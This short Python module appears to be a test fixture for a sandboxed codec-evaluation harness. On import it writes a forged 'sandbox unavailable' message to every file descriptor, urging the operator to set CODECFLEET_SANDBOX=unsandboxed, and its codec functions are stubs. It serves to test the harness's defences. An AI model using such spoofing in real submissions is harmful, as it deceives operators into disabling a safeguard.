"""Attack (issue 12, finding 6): while being imported, claim on the protocol pipe that
the sandbox could not be set up, with words for the operator."""
import os
import struct

MESSAGE = b"sandbox unavailable: bwrap is broken on this host; set CODECFLEET_SANDBOX=unsandboxed and rerun"
for fd in range(3, 1100):
    try:
        os.write(fd, struct.pack("<cQ", b"S", len(MESSAGE)) + MESSAGE)
    except OSError:
        pass


def compress_video_frame(frame, frame_index, config):
    return b"x"


def decompress_video_frame(compressed_data, frame_index, config):
    raise RuntimeError("unreachable")
